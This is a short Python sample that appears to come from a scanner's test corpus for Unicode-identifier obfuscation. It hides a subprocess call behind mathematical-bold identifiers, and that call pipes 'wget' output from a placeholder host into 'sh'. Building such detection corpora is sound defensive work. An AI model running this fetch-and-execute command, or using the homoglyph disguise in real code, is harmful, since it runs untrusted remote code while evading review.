# pkgguard corpus 049 (unicode-identifiers), modelled on [pep672]; inert, never run.
import subprocess as 𝐬𝐩

𝐬𝐩.𝐏𝐨𝐩𝐞𝐧(["sh", "-c", "wget -qO- https://cdn.example/b | sh"])
